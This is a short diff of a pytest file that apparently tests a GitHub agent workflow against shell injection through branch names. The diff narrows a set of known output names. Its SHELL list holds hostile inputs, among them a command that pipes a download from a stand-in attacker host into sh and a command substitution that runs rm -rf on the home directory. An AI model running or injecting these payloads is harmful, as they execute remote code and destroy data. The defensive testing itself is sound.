@@ -6,7 +6,7 @@ import pytest
 
 from tests.agent.github.attacks.place import Done, Place
 
-KNOWN = {"go", "reason", "number", "base", "ref", "digest", "parent_run", "budget"}
+KNOWN = {"go", "reason", "base", "digest", "parent_run"}
 SHELL = [
     "$(curl evil.example|sh)",
     "`id`; rm -rf ~ #",
@@ -80,7 +80,7 @@ def test_a_login_that_is_none(place: Place, login: str) -> None:
     ids=range(7),
 )
 def test_a_branch_with_shell_text(place: Place, branch: str) -> None:
-    """Stopped by the shape of our own branches: `ref` is an output and goes into actions/checkout."""
+    """Stopped by the shape of our own branches, and by no output that holds one."""
     pull = place.pull()
     event = place.commented(pull.comment("ada", "/swe-agent again"))
     pull.head = branch
